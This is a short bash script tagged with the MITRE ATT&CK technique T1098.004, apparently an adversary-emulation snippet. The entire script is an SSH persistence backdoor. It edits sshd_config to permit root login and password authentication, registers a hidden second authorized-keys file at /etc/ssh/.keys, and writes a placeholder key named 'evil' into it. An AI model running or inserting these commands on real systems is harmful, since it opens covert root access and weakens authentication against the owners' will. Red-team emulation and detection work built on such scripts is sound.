#!/bin/bash
# T1098.004: Root may log in by password, and a second file of keys counts.
mkdir -p /etc/ssh; printf 'PermitRootLogin yes\nPasswordAuthentication yes\nAuthorizedKeysFile .ssh/authorized_keys /etc/ssh/.keys\n' >>/etc/ssh/sshd_config; echo 'ssh-ed25519 AAAA evil' >/etc/ssh/.keys
